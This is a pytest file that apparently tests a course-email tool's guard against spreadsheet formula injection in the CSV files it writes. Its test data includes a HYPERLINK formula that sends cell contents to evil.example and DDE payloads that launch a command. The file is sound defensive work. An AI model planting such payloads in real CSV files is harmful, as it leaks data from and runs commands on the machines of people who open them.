"""Every CSV dripcourse writes is safe to open in a spreadsheet: a cell that would run as a formula starts with
an apostrophe (the OWASP rule), in the build's schedule.csv, a subscriber plan, and the services' journey files."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from conftest import named
from hostile import course, run

FORMULAS = [
    ("hyperlink", '=HYPERLINK("https://evil.example/?d="&A1,"Open")'),
    ("dde-plus", "+cmd|' /C calc'!A0"),
    ("minus-sum", "-2+3"),
    ("at-sum", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("equals-only", "="),
    ("plus-word", "+1 more"),
]


def cells(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))


def yaml_quoted(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


@pytest.mark.parametrize("formula", named(FORMULAS))
def test_a_formula_subject_is_text_in_schedule_csv(tmp_path: Path, formula: str) -> None:
    folder = course(tmp_path, ("subject: Start small", f"subject: {yaml_quoted(formula)}"))
    outcome = run("build", folder, "--out", tmp_path / "out", tmp=tmp_path)
    assert outcome.code == 0, outcome.err
    rows = cells(tmp_path / "out" / "schedule.csv")
    assert rows[1][2] == "'" + formula
    assert rows[2][2] == "Keep going"


@pytest.mark.parametrize("formula", named(FORMULAS))
def test_a_formula_name_and_subject_are_text_in_a_plan(tmp_path: Path, formula: str) -> None:
    folder = course(tmp_path, ("subject: Keep going", f"subject: {yaml_quoted(formula)}"))
    subs = tmp_path / "subs.csv"
    with subs.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(
            [["email", "first_name", "signed_up_at"], ["a@x.example", formula, "2026-03-02T09:00:00Z"]]
        )
    outcome = run("schedule", folder, "-s", subs, "--out", tmp_path / "plan.csv", tmp=tmp_path)
    assert outcome.code == 0, outcome.err
    rows = cells(tmp_path / "plan.csv")
    assert [row[1] for row in rows[1:]] == ["'" + formula] * 2
    assert [row[4] for row in rows[1:]] == ["Start small", "'" + formula]


@pytest.mark.parametrize(("target", "name"), [("mailchimp", "journey.csv"), ("mailerlite", "workflow.csv")])
@pytest.mark.parametrize("formula", named(FORMULAS[:3]))
def test_a_formula_subject_is_text_in_a_journey_file(tmp_path: Path, target: str, name: str, formula: str) -> None:
    folder = course(tmp_path, ("subject: Start small", f"subject: {yaml_quoted(formula)}"))
    outcome = run("export", target, folder, "--out", tmp_path / "x", tmp=tmp_path)
    assert outcome.code == 0, outcome.err
    (journey,) = (tmp_path / "x").rglob(name)
    text_cells = [cell for row in cells(journey) for cell in row]
    assert not any(cell.startswith(("=", "+", "-", "@", "'")) for cell in text_cells)
    # The subject is pasted into the service as written, so it lives in emails.json, where no guard is needed.
    assert formula not in (tmp_path / "x" / name).read_text(encoding="utf-8-sig")
    emails = json.loads((tmp_path / "x" / "emails.json").read_text(encoding="utf-8"))
    assert emails[0]["subject"] == formula
